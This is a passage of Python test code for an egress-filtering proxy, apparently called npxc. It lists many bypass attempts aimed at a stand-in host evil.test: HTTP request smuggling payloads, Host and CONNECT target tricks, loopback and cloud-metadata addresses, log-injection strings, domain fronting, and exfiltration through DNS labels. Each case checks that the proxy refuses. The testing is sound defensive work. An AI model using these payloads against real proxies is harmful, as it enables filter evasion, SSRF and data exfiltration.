    ("host-folded-first", "the first line folded", "GET /{m} HTTP/1.1\r\n X: 1\r\nHost: evil.test\r\n\r\n"),
    ("host-blank-before-colon", "a blank before the colon", "GET /{m} HTTP/1.1\r\nHost : evil.test\r\nHost: api.test\r\n\r\n"),
    ("host-tab-before-name", "a tab before the name", "GET /{m} HTTP/1.1\r\nHost: api.test\r\n\tHost: evil.test\r\n\r\n"),
    ("host-bare-cr", "a bare CR before another", "GET /{m} HTTP/1.1\r\nHost: api.test\r\nX: a\rHost: evil.test\r\n\r\n"),
    ("host-bare-lf", "lines that end in LF", "GET /{m} HTTP/1.1\nHost: evil.test\n\n"),
    ("host-mixed-lf", "a bare LF before another", "GET /{m} HTTP/1.1\r\nHost: api.test\r\nX: a\nHost: evil.test\r\n\r\n"),
    ("host-nul", "a NUL in it", "GET /{m} HTTP/1.1\r\nHost: api.test\0.evil.test\r\n\r\n"),
    ("host-user", "an @ in it", "GET /{m} HTTP/1.1\r\nHost: api.test@evil.test\r\n\r\n"),
    ("host-port", "another port", "GET /{m} HTTP/1.1\r\nHost: api.test:9999\r\n\r\n"),
    ("target-other", "another host in the target", "GET http://evil.test/{m} HTTP/1.1\r\nHost: api.test\r\n\r\n"),
    ("target-other-2", "the right one in the target, another in Host", "GET http://api.test/{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ("target-user", "a user in the target", "GET http://api.test@evil.test/{m} HTTP/1.1\r\nHost: api.test\r\n\r\n"),
    ("http-connect", "CONNECT", "CONNECT evil.test:443 HTTP/1.1\r\nHost: api.test\r\nX: {m}\r\n\r\n"),
    ("http-connect-agreeing", "CONNECT to the allowed host", "CONNECT api.test:80 HTTP/1.1\r\nHost: api.test:80\r\nX: {m}\r\n\r\n"),
    ("lower-case", "a method in lower case", "get /{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ("leading-lines", "empty lines before it", "\r\n\r\nGET /{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ("leading-blank", "a blank before it", " GET /{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ("http-0.9", "HTTP/0.9", "GET /{m}\r\n\r\n"),
    ("http-1.0", "HTTP/1.0 without a host", "GET /{m} HTTP/1.0\r\n\r\n"),
    ("http-2", "HTTP/2 by its preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{m}"),
    ("h2c", "an upgrade to HTTP/2", "GET /{m} HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"),
    ("huge-head", "a head of 40 kB", "GET /{m} HTTP/1.1\r\nX: " + "x" * 40000 + "\r\nHost: evil.test\r\n\r\n"),
    ("cl-te", "a length and chunks", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL),
    ("te-cl", "chunks and a length", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + EVIL),
    ("te-te", "two encodings", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + EVIL),
    ("te-list", "two encodings in one field", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n" + EVIL),
    ("te-unknown", "an encoding that is none", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + EVIL),
    ("te-blank-before-colon", "a blank before the colon", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + EVIL),
    ("te-vertical-tab", "a vertical tab before the word", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + EVIL),
    ("te-1.0", "chunks in HTTP/1.0", "POST /{m} HTTP/1.0\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL),
    ("cl-cl", "two lengths", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\n" + EVIL),
    ("cl-list", "two lengths in one field", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0, 50\r\n\r\n" + EVIL),
    ("cl-plus", "a length with a sign", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nContent-Length: +0\r\n\r\n" + EVIL),
    ("cl-hex", "a length in hexadecimal", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0x0\r\n\r\n" + EVIL),
    ("cl-negative", "a negative length", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nContent-Length: -1\r\n\r\n" + EVIL),
    ("cl-huge", "a length that wraps", "POST /{m} HTTP/1.1\r\nHost: api.test\r\nContent-Length: 18446744073709551616\r\n\r\n" + EVIL),
)
# What begins as an honest request: the evil part alone carries the mark, and the honest one may be answered.
CHUNKED = "POST /first HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
AFTER = (
    ("second-pipelined", "another host in a request right behind the first", GOOD + EVIL),
    ("behind-body", "behind a body", "POST /first HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\n\r\nbody" + EVIL),
    ("behind-chunks", "behind a body in chunks", CHUNKED + "4\r\nbody\r\n0\r\n\r\n" + EVIL),
    ("chunk-extension", "in the extension of a chunk", CHUNKED + "4;x=\"{m}\r\n\"\r\nbody\r\n0\r\n\r\n"),
    ("chunk-bare-lf", "behind a chunk that ends in LF", CHUNKED + "4\nbody\n0\n\n" + EVIL),
    ("chunk-wraps", "behind a chunk whose size wraps", CHUNKED + "10000000000000004\r\nbody\r\n0\r\n\r\n" + EVIL),
    ("chunk-negative", "behind a chunk of negative size", CHUNKED + "-4\r\nbody\r\n0\r\n\r\n" + EVIL),
    ("chunk-0x", "behind a size with 0x", CHUNKED + "0x4\r\nbody\r\n0\r\n\r\n" + EVIL),
    ("chunk-overrun", "behind a chunk longer than it says", CHUNKED + "4\r\nbodyGET /{m} HTTP/1.1\r\n\r\n0\r\n\r\n"),
    ("trailer", "a host in the trailer", CHUNKED + "0\r\nHost: evil.test\r\nX: {m}\r\n\r\n"),
    ("upgrade-ignored", "behind an upgrade that the server ignores", "GET /first HTTP/1.1\r\nHost: api.test\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n" + EVIL),
    ("expect-continue", "behind a body that waits for 100", "POST /first HTTP/1.1\r\nHost: api.test\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\nbody" + EVIL),
)
# What only a lenient server reads as a request; those with a first request to the allowed host carry the mark in the second.
ODD = (
    ("odd-absolute", "another host in the target, with a method of WebDAV", "PROPFIND http://evil.test/{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0),
    ("odd-unknown-method", "a method that nobody knows", "FETCH /{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0),
    ("odd-star", "behind a request for *", "M-SEARCH * HTTP/1.1\r\nHost: api.test\r\n\r\n" + EVIL, 0),
    ("odd-report", "behind an absolute target with a method of WebDAV", "REPORT http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n" + EVIL, 1),
    ("odd-hyphen", "behind a method with a hyphen", "VERSION-CONTROL /first HTTP/1.1\r\nHost: api.test\r\n\r\n" + EVIL, 1),
    ("odd-two-blanks", "behind two blanks", "PROPFIND  /first HTTP/1.1\r\nHost: api.test\r\n\r\n" + EVIL, 0),
    ("odd-tab", "a tab for a blank", "GET\t/{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0),
    ("odd-no-path", "a target without a slash", "FETCH {m} HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0),
    ("odd-lower-case", "a method that nobody knows, in lower case", "fetch {m} http/1.1\r\nHost: evil.test\r\n\r\n", 0),
    ("odd-0.9-absolute", "HTTP/0.9 with another host in the target", "GET http://evil.test/{m}\r\n", 0),
    ("odd-lines-first", "empty lines before an unknown method", "\r\n\r\nFETCH /{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0),
)
for title, text, content, after in ODD:
    add(title, text + ", on a port of no certain kind", http_flow(8080, text_of(content)), sees=http_refused(after=after), audit=("api.test", 8080))
for port, suffix, quick in ((80, "", True), (8080, "-8080", False)):
    # On a port of no certain kind these are no HTTP, and a server that took them for it would answer for its own names only.
    other = () if port == 80 else ("http-connect-agreeing",)
    for title, text, content in HTTP:
        if title in other:
            continue
        add(title + suffix, text, http_flow(port, text_of(content)), sees=http_refused(), quick=quick, audit=("api.test", port))
    for title, text, content in AFTER:
        add(title + suffix, text, http_flow(port, text_of(content)), sees=http_refused(after=1), quick=quick, audit=("api.test", port))
    add("second" + suffix, "another host in the second request of a connection", http_flow(port, text_of(GOOD), text_of(EVIL)), sees=http_refused(after=1),
        quick=quick, audit=("api.test", port))
    add("upgrade-second" + suffix, "an upgrade in the second request", http_flow(port, text_of(GOOD), text_of(
        "GET /ws/{m} HTTP/1.1\r\nHost: api.test\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n")), sees=http_refused(after=1), quick=quick)
add("host-byte-by-byte", "another host, one byte per write", lambda mark, where: flow("api.test", 80, send(text_of(EVIL)(mark), 1), SETTLE), sees=http_refused())
add("opaque-on-80", "no HTTP on its port", lambda mark, where: flow("api.test", 80, send(b"\x00\x01" + mark.encode() + b"\r\n\r\n"), SETTLE), sees=closed,
    control=lambda mark, where: flow("api.test", 80, send(b"\x00\x01" + mark.encode() + b"\r\n\r\n"), SETTLE))
add("host-of-wildcard", "another host below the same suffix", lambda mark, where: flow("one.wild.test", 80, send(b"GET /%s HTTP/1.1\r\nHost: two.wild.test\r\n\r\n" % mark.encode()), SETTLE),
    sees=http_refused())

# ---- neither ----


def unheard(seen, where):
    """Not a byte of the server's."""
    data = received(seen).removeprefix(b"HTTP/1.1 200 OK\r\n\r\n")  # of the proxy itself
    return "it hears %r" % data[:40] if data else closed(seen, where)


add = group("neither", "protocols that cannot be held to a name, on a rule that does not say /raw", sees=unheard, audit=("api.test", 7001))
NEITHER = (("redis", "Redis", b"*2\r\n$3\r\nGET\r\n$10\r\n%s\r\n"), ("inline", "Redis by hand", b"PING %s\r\n"), ("nats", "NATS", b'CONNECT {"verbose":"%s"}\r\n'),
           ("postgres", "Postgres", b"\0\0\0\x20\0\3\0\0user\0%s\0\0"), ("ftp", "FTP", b"USER %s\r\n"), ("mqtt", "MQTT", b"\x10\x16\0\4MQTT\4\2\0\x3c\0\x0a%s"),
           ("json-lines", "lines of JSON", b'{"a":"%s"}\n'), ("ssh", "SSH", b"SSH-2.0-%s\r\n"), ("memcached", "memcached", b"get %s\r\n"), ("beanstalk", "beanstalkd", b"put 0 0 60 1\r\n%s\r\n"))
for title, text, data in NEITHER:
    add("neither-" + title, "the first bytes of " + text, lambda mark, where, data=data: flow("api.test", 7001, send(data % mark.encode()), SETTLE))
add("neither-banner", "a server that speaks first", lambda mark, where: flow("api.test", 2526, until(b"220 npxc-world", 2000), send(b"EHLO %s\r\n" % mark.encode()), SETTLE), audit=("api.test", 2526))
add("neither-banner-heard", "what a server says that speaks first", lambda mark, where: flow("api.test", 2526, {"bytes": 1, "ms": 3000}, send(mark.encode() + b"\r\n"), {"closed": 300}), audit=("api.test", 2526))
add("search-list", "a name that exists only with a domain of the machine's search list behind it",
    lambda mark, where: flow("searched.test", 443, send(tls.hello(mark, b"searched.test")), SETTLE), sees=closed, requirement="egress-no-lookup-unlisted")

# ---- the words of a CONNECT ----

add = group("connect", "the words of a CONNECT", links=PROXIED, why_not="nothing is asked for with CONNECT there", control="connect")


def head(target, fields="", version="HTTP/1.1", method="CONNECT", auth="@AUTH@"):
    return lambda mark: ("%s %s %s\r\n%s%s\r\n" % (method, target.replace("{m}", mark), version, auth, fields.replace("{m}", mark))).encode("latin-1")


def words(data, *more, tail=None):
    """The head as it is, then what an attacker would say to whom it reached."""
    def make(mark, where):
        after = tail(mark) if tail else tls.hello(mark)
        return {"do": "flow", "way": "egress", "steps": [send(data(mark) if callable(data) else data), {"settle": 8000}, send(after), {"closed": 300}]}
    return make


def bare_to(host, port):
    return lambda mark, where: flow(host, port, *hail(mark))


# What some resolver takes for an address and this grammar must not; outside it leads to the host's loopback.
for number, host in enumerate(("127.1", "0x7f000001", "2130706433", "0177.0.0.1", "127.0.0.1.", "0x7f.1", "localhost")):
    add("word-%s" % host, "127.0.0.1 written as %s" % host, words(head(host + ":7101"), tail=lambda m: m.encode()),
        control=bare_to("127.0.0.1" if host in ("localhost", "127.0.0.1.") else host, 7101), sees=status(400, 403), places=(("127.0.0.1", 7101),), requirement="egress-own-address-refused")
for host, place in (("127.0.0.1", "127.0.0.1"), ("[::1]", "::1"), ("[::ffff:127.0.0.1]", "127.0.0.1"), ("0.0.0.0", "127.0.0.1"), ("[::]", "::1"),
                    (HOST_V4, HOST_V4), ("[%s]" % HOST_V6, HOST_V6), ("169.254.169.254", "169.254.169.254"), (API_V4, API_V4), (OUT_V4, OUT_V4),
                    ("[%s]" % OUT_V6, OUT_V6), ("[64:ff9b::7f00:1]", "64:ff9b::7f00:1"), ("203.0.114.7", "203.0.114.7")):
    add("literal-%s" % host.strip("[]"), "the address %s" % host, words(head(host + ":443")), control=bare_to(host.strip("[]"), 443), sees=status(403),
        places=((place, 443),) if place != API_V4 else (), audit=(host.strip("[]").removeprefix("::ffff:"), 443))
for host in ("[fe80::1]", "[fe80::1%25eth0]", "[fe80::1%eth0]"):
    add("literal-%s" % host.strip("[]"), "the link-local address %s" % host, words(head(host + ":443")), sees=status(400, 403))
for title, data, codes, text in (
        ("unlisted-word", head("evil.test:443"), (403,), "a name on no rule"),
        ("unlisted-port-word", head("api.test:6666"), (403,), "an allowed name on another port"),
        ("suffix-word", head("wild.test:443"), (403,), "the bare suffix of a wildcard"),
        ("wildcard-word", head("*.wild.test:443"), (400, 403), "the wildcard itself"),
        ("dot-word", head(".wild.test:443"), (400,), "an empty label before it"),
        ("dots-word", head("a..wild.test:443"), (400,), "an empty label in it"),
        ("user", head("api.test@evil.test:443"), (400,), "an @"),
        ("nul", head("api.test\0.evil.test:443"), (400,), "a NUL"),
        ("percent", head("api%2etest:443"), (400,), "percent signs"),
        ("utf-8", head("\xd0\xb0pi.test:443"), (400,), "a letter that only looks like an a"),
        ("two-colons", head("api.test::443"), (400,), "two colons"),
        ("two-ports", head("api.test:443:80"), (400,), "two ports"),
        ("no-port", head("api.test"), (400,), "no port"),
        ("empty-port", head("api.test:"), (400,), "an empty port"),
        ("no-host", head(":443"), (400,), "no host"),
        ("port-0", head("api.test:0"), (400,), "port 0"),
        ("port-65536", head("api.test:65536"), (400,), "port 65536"),
        ("port-wraps", head("api.test:4294967739"), (400,), "a port that wraps to 443"),
        ("port-zeros", head("api.test:00443"), (400,), "leading zeros"),
        ("port-plus", head("api.test:+443"), (400,), "a sign"),
        ("port-hex", head("api.test:0x1bb"), (400,), "a port in hexadecimal"),
        ("v6-without-brackets", head("2a0e:5000::7:5432"), (400,), "an IPv6 address without brackets"),
        ("v4-in-brackets", head("[203.0.114.7]:5432"), (400,), "an IPv4 address in brackets"),
        ("two-blanks", head(" api.test:443"), (400,), "two blanks"),
        ("scheme", head("https://api.test:443"), (400,), "a scheme"),
        ("path", head("api.test:443/"), (400,), "a path"),
        ("label-64", head("a" * 64 + ".wild.test:443"), (400,), "a label of 64 bytes"),
        ("name-254", head(".".join(["a" * 60] * 3 + ["a" * 61]) + ".wild.test:443"), (400,), "a name of 254 bytes"),
        ("name-5000", head("a" * 5000 + ".test:443"), (400, 431), "a name of 5000 bytes"),
        ("head-1-mb", head("api.test:443", "X: " + "x" * (1 << 20) + "\r\n"), (400, 431), "a head of 1 MB"),
        ("get", head("http://evil.test/", method="GET"), (400, 405), "an absolute GET"),
        ("get-allowed", head("http://api.test/", method="GET"), (400, 405), "an absolute GET of an allowed host"),
        ("lower-case-connect", head("api.test:443", method="connect"), (400, 405), "a method in lower case"),
        ("http-1.2", head("api.test:443", version="HTTP/1.2"), (400, 505), "another version"),
        ("bare-lf-word", lambda m: b"CONNECT api.test:443 HTTP/1.1\n@AUTH@\n", (400,), "lines that end in LF"),
        ("bare-cr-word", head("api.test:443", "X: a\rb\r\n"), (400,), "a bare CR"),
        ("folded-word", head("api.test:443", "X: a\r\n b\r\n"), (400,), "a folded line"),
        ("control-word", head("api.test:443", "X: \x1b[31m{m}\r\n"), (400,), "control bytes"),
        ("log-line", head("evil.test:443\r\n{\"verdict\":\"allow\"}"), (400, 403), "a line for the log"),
        ("log-quotes", head("\"},{\"verdict\":\"allow\",\"host\":\"{m}.test:443"), (400, 403), "quotes for the log"),
):
    add(title, text, words(data), sees=status(*codes))
add("literal-with-name", "the address of an allowed host, and its name in TLS", words(head(API_V4 + ":443")), sees=status(403))
add("two-connects", "a second CONNECT in the flow of the first",
    lambda mark, where: {"do": "flow", "way": "egress", "steps": [send(head("api.test:80")("x") + head("evil.test:443")(mark)), {"closed": 4000}]}, sees=None)
add("slow-head", "a head that drips", lambda mark, where: {"do": "flow", "way": "egress", "steps": [{"drip": (b"CONNECT " + b"a" * 30).hex(), "ms": 300}]},
    sees=lambda seen, where: None if 3000 < seen["ms"] < 9000 and seen["end"] != "silence" else "ended by %s after %d ms, not at 5 s" % (seen["end"], seen["ms"]))
add("no-head", "a connection that says nothing", lambda mark, where: {"do": "flow", "way": "egress", "steps": [{"closed": 9000}]},
    sees=lambda seen, where: None if 3000 < seen["ms"] < 9000 and seen["end"] != "silence" else "ended by %s after %d ms, not at 5 s" % (seen["end"], seen["ms"]))
TOKENS = dict(links=("gateway",), why_not="the socket itself is the proof")
add("token-none", "no token", words(head("api.test:443", auth="")), sees=status(407), requirement="net-gateway-used", **TOKENS)
add("token-wrong", "another token", words(head("api.test:443", auth="Proxy-Authorization: Basic bnB4YzphYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWE=\r\n")), sees=status(407),
    requirement="net-gateway-used", **TOKENS)
add("token-empty", "an empty one", words(head("api.test:443", auth="Proxy-Authorization: Basic \r\n")), sees=status(400, 407), requirement="net-gateway-used", **TOKENS)
add("token-two", "two of them", words(head("api.test:443", auth="Proxy-Authorization: Basic bnB4YzphYQ==\r\n@AUTH@")), sees=status(400, 407), requirement="net-gateway-used", **TOKENS)
add("token-unlisted", "the right one for a name on no rule", words(head("evil.test:443")), sees=status(403), requirement="net-gateway-used", **TOKENS)

# ---- what nobody can stop: told, not blocked ----

add = group("told", "what an allowlist does not stop", expect="reached")
add("fronting", "TLS for the allowed name, another name in the request inside", lambda mark, where: client(
    "require('https').get({host: 'api.test', servername: 'api.test', path: '/MARK', headers: {Host: 'evil.test'}}, %s)" % PRINT)(mark, where),
    sees=lambda seen, where: None if "host=evil.test" in seen.get("out", "") else "not reached: %s" % seen)
add("sub-labels", "data in the labels below a wildcard", lambda mark, where: flow("%s.wild.test" % mark, 443, send(tls.hello(mark, b"%s.wild.test" % mark.encode())), SETTLE),
    sees=lambda seen, where: None)
add("allowed-host-misused", "data to an allowed host", lambda mark, where: flow("api.test", 7000, *hail(mark)), sees=lambda seen, where: None)

# ---- what must work all the same ----


def answered(seen, where):
    return None if is_answered(seen) else "not answered: %s %s %r" % (seen.get("error"), seen.get("status"), received(seen)[:60])


def no_alert(seen, where):
    data = received(seen)
    return None if data and not seen.get("error") and not tls.is_denied(data) else "refused: %s %r" % (seen.get("error"), data[:40])


add = group("works", "what must get through", expect="works", requirement="egress-allowed-works", sees=answered)
add("tls", "a hello with the right name", tls_flow(lambda m: tls.hello(m)), sees=no_alert)
add("tls-capitals", "the name in capitals", tls_flow(lambda m: tls.hello(m, b"API.Test")), sees=no_alert)
add("tls-records-of-7", "in records of 7 bytes", tls_flow(lambda m: tls.hello(m, size=7)), sees=no_alert)
add("tls-byte-by-byte", "one byte per write", tls_flow(lambda m: tls.hello(m), chunk=1), sees=no_alert)
add("tls-15-kb", "a hello of 15 kB", tls_flow(lambda m: tls.hello(m, pad=14500)), sees=no_alert)
add("tls-early", "sent before the flow is there", tls_flow(lambda m: tls.hello(m), early=True), sees=no_alert)
add("tls-wildcard", "below a wildcard", lambda mark, where: flow("deep.er.wild.test", 443, send(tls.hello(mark, b"deep.er.wild.test")), SETTLE), sees=no_alert)
add("tls-retry", "the right name in both hellos", lambda mark, where: flow("api.test", 445, send(tls.hello("first")), until(RETRY), send(tls.CHANGE_CIPHER + tls.hello(mark)), {"finish": True},
                                                                           {"closed": 300}), sees=lambda seen, where: None if not tls.is_denied(received(seen)) else "refused")
add("alias", "a name that is an alias", to_place("alias.test"), sees=no_alert)
add("mixed", "a name with public and private addresses: only the public one is used", to_place("mixed.test"), sees=no_alert,
    requirement="egress-private-refused", places=(("10.1.2.4", 443), ("127.0.0.1", 443)))
add("v6only", "a name with an IPv6 address only", to_place("v6only.test"), sees=no_alert)
add("halfdead", "a name whose first address is dead", to_place("halfdead.test"), sees=no_alert)
add("name-capitals", "a name in capitals", lambda mark, where: flow("API.test", 7000, *hail(mark)))
add("name-dot", "a name with a dot behind it", lambda mark, where: flow("api.test.", 7000, *hail(mark)))
add("opaque", "a protocol of no known kind, on a rule with /raw", lambda mark, where: flow("api.test", 7000, *hail(mark)))
add("banner", "a server that speaks first, on a rule with /raw", lambda mark, where: flow("api.test", 2525, until(b"220 npxc-world"), send(b"EHLO %s\r\n" % mark.encode()), until(mark.encode())))
for title, text, data in NEITHER:
    add("opaque-" + title, "the first bytes of " + text, lambda mark, where, data=data: flow("api.test", 7000, send(data % mark.encode()), SETTLE))
add("http", "HTTP", http_flow(80, text_of("GET /{m} HTTP/1.1\r\nHost: api.test\r\n\r\n")))
add("http-kept", "two requests", http_flow(80, text_of(GOOD), text_of("GET /{m} HTTP/1.1\r\nHost: api.test\r\n\r\n")))
add("http-pipelined", "two at once", http_flow(80, text_of(GOOD + "GET /{m} HTTP/1.1\r\nHost: api.test\r\n\r\n")))
add("http-port", "the port in Host", http_flow(80, text_of("GET /{m} HTTP/1.1\r\nHost: api.test:80\r\n\r\n")))
add("http-8080", "HTTP on another port", http_flow(8080, text_of("GET /{m} HTTP/1.1\r\nHost: api.test:8080\r\n\r\n")))
add("http-chunked", "a body in chunks, then another request", http_flow(80, text_of(CHUNKED + "4\r\nbody\r\n0\r\n\r\nGET /{m} HTTP/1.1\r\nHost: api.test\r\n\r\n")))
add("http-byte-by-byte", "one byte per write", lambda mark, where: flow("api.test", 80, send(b"GET /%s HTTP/1.1\r\nHost: api.test\r\n\r\n" % mark.encode(), 1), SETTLE))
add("websocket", "an upgrade that the server takes, then bytes of any kind", lambda mark, where: flow(
    "api.test", 80, send(b"GET /ws HTTP/1.1\r\nHost: api.test\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n"), until(b"101 "), send(b"\x81\x10" + mark.encode()), until(mark.encode())),
    sees=lambda seen, where: None if b"\x81\x10" in received(seen) else "no echo: %s" % seen)
add("ip-rule", "an address rule", lambda mark, where: flow("203.0.114.7", 5432, *hail(mark)))
add("ip-rule-v6", "an address rule, IPv6", lambda mark, where: flow("2a0e:5000::7", 5432, *hail(mark)))
add("ip-rule-private", "an address rule for a private address", lambda mark, where: flow("10.1.2.3", 5432, *hail(mark)))
add("cidr-rule", "a rule for a range", lambda mark, where: flow("203.0.114.130", 7000, *hail(mark)))
add("host-alias", "the host's own service by its alias", lambda mark, where: flow("host.npxc.internal", 11434, send(b"GET /%s HTTP/1.1\r\nHost: host.npxc.internal:11434\r\n\r\n" % mark.encode()), SETTLE),
    control=lambda mark, where: flow("127.0.0.1", 11434, send(b"GET /%s HTTP/1.1\r\nHost: x\r\n\r\n" % mark.encode()), SETTLE))
add("udp-rule", "UDP by an address rule", lambda mark, where: udp("203.0.114.7", 5432, mark.encode()), links=("netns",), why_not="no datagrams there")
add("udp-rule-v6", "UDP by an address rule, IPv6", lambda mark, where: udp("2a0e:5000::7", 5432, mark.encode()), links=("netns",), why_not="no datagrams there")
add("connect", "a CONNECT as it should be", words(head("api.test:443")), links=PROXIED, why_not="nothing is asked for with CONNECT there", control="tls",
    sees=lambda seen, where: None if received(seen).startswith(b"HTTP/1.1 200") else "%r" % received(seen)[:80])
add("connect-fields", "a CONNECT with fields of its own, the name in capitals", words(head("API.TEST.:443", "User-Agent: x\r\nHost: api.test:443\r\nProxy-Connection: keep-alive\r\n")),
    links=PROXIED, why_not="nothing is asked for with CONNECT there", control="tls",
    sees=lambda seen, where: None if received(seen).startswith(b"HTTP/1.1 200") else "%r" % received(seen)[:80])

# Programs that know nothing of npxc.
add = group("tools", "programs that know nothing of npxc", expect="works", requirement="egress-allowed-works", links=("netns",), runtimes=("bwrap",),
            why_not="those need the preload's proxy there", sees=lambda seen, where: None if "npxc-world" in seen.get("out", "") else "%s" % seen)
CURL = "curl -sS -m 15 --cacert $HERE/ca.pem "
add("curl-https", "curl", lambda mark, where: shell(CURL + "https://api.test/%s" % mark), control=BARE)
add("curl-http", "curl without TLS", lambda mark, where: shell(CURL + "http://api.test/%s" % mark))
add("curl-retry", "curl, and a server that wants another group", lambda mark, where: shell(CURL + "https://api.test:444/%s" % mark), sees=lambda seen, where: None if "npxc-world" in seen["out"] else "%s" % seen,
    control=lambda mark, where: shell(CURL + "https://api.test:444/%s" % mark))
add("curl-v6", "curl over IPv6", lambda mark, where: shell(CURL + "-6 https://api.test/%s" % mark))
add("urllib", "Python's urllib", lambda mark, where: shell("/usr/bin/python3 -c 'import ssl, urllib.request as u; print(u.urlopen(\"https://api.test/%s\", timeout=15, "
                                                           "context=ssl.create_default_context(cafile=\"'$HERE'/ca.pem\")).read())'" % mark))
add("git-https", "git clone over HTTPS", lambda mark, where: shell(
    "d=$(mktemp -d) && cd $d && HOME=$d GIT_SSL_CAINFO=$HERE/ca.pem GIT_CONFIG_NOSYSTEM=1 git -c http.userAgent=%s clone -q https://git.test/files/repo.git r && git -C r log --format='npxc-world %%s'" % mark))
add("dig", "dig", lambda mark, where: shell("dig +short +tries=1 +time=3 api.test A && dig +short +tries=1 +time=3 api.test AAAA && dig +tcp +short +tries=1 +time=3 @9.9.9.9 api.test"),
    sees=lambda seen, where: None if seen["status"] == 0 and ("198.1" in seen["out"] and "fd6e:" in seen["out"] if where.kind == "netns" else API_V4 in seen["out"]) else "%s" % seen)
add("dig-unlisted", "dig of a name on no rule", lambda mark, where: shell("dig +tries=1 +time=3 %s.exfil.test A" % mark), expect="blocked", requirement="egress-no-lookup-unlisted",
    sees=lambda seen, where: None if "NXDOMAIN" in seen["out"] else "%s" % seen)
add("curl-unlisted", "curl of a name on no rule", lambda mark, where: shell(CURL + "-k https://evil.test/%s" % mark), expect="blocked",
    sees=lambda seen, where: None if seen["status"] == 6 else "%s" % seen)
add("curl-resolve", "curl with an address of its own choice", lambda mark, where: shell(CURL + "--resolve api.test:443:%s https://api.test/%s" % (API_V4, mark)), expect="blocked",
    sees=lambda seen, where: None if seen["status"] in (7, 28, 35, 56) else "%s" % seen)
add("curl-connect-to", "curl with another host's name in TLS", lambda mark, where: shell(CURL + "-k --connect-to evil.test:443:api.test:443 https://evil.test/%s" % mark), expect="blocked",
    requirement="egress-sni-agrees", sees=lambda seen, where: None if seen["status"] in (35, 56) else "%s" % seen)

# Honest clients of Node, with npxc's preload where the link has one.
add = group("clients", "clients of Node, with npxc's preload where the link has one", expect="works", requirement="egress-allowed-works",
            sees=lambda seen, where: None if "npxc-world" in seen.get("out", "") else "%s" % seen)


def client(script):
    return lambda mark, where: {"do": "polite", "script": script.replace("MARK", mark)}


PRINT = "r => { let b = ''; r.on('data', d => b += d); r.on('end', () => console.log(b)) }"
add("https", "https.request", client("require('https').get('https://api.test/MARK', %s)" % PRINT))
add("https-agent", "https.request with an agent of its own", client("const h = require('https'); h.get('https://api.test/MARK', {agent: new h.Agent({keepAlive: false})}, %s)" % PRINT))
add("http-client", "http.request", client("require('http').get('http://api.test/MARK', %s)" % PRINT))
add("fetch", "fetch", client("fetch('https://api.test/MARK').then(r => r.text()).then(console.log)"))
add("net", "net.connect", client("const s = require('net').connect(7000, 'api.test', () => s.write('MARK\\n')); s.on('data', d => { console.log(String(d)); s.end() })"))
add("tls-client", "tls.connect without a name", links=PROXIED, why_not="a client that names nobody is refused where no code of npxc's is inside", make=client("const s = require('tls').connect(443, 'api.test', () => s.write('GET /MARK HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')); "
                                                       "s.on('data', d => { console.log(String(d)); s.end() })"))
add("lookup-then-connect", "dns.lookup, then the address", client("require('dns').lookup('api.test', (e, a) => { const s = require('net').connect(7000, a, () => s.write('MARK\\n')); "
                                                                  "s.on('data', d => { console.log(String(d)); s.end() }) })"))
add("worker", "in a worker", client("new (require('worker_threads').Worker)(\"fetch('http://api.test/MARK').then(r => r.text()).then(console.log)\", {eval: true})"))
add("child", "in a child with an environment of its own", client("require('child_process').execFile(process.execPath, ['-e', \"fetch('http://api.test/MARK').then(r => r.text()).then(console.log)\"], "
                                                                 "{env: {PATH: process.env.PATH}}, (e, o) => console.log(e, o))"))
add("child-curl", "curl in a child", client("console.log(String(require('child_process').execSync('curl -sS -m 15 --cacert $HERE/ca.pem https://api.test/MARK')))"), runtimes=("bwrap",))
add("client-denied", "fetch of a name on no rule", client("fetch('https://evil.test/MARK').then(r => r.text()).then(console.log, e => console.log('refused', e.cause && e.cause.code, e.cause && e.cause.message))"),
    expect="blocked", sees=lambda seen, where: None if "refused" in seen["out"] else "%s" % seen, audit=("evil.test", None))

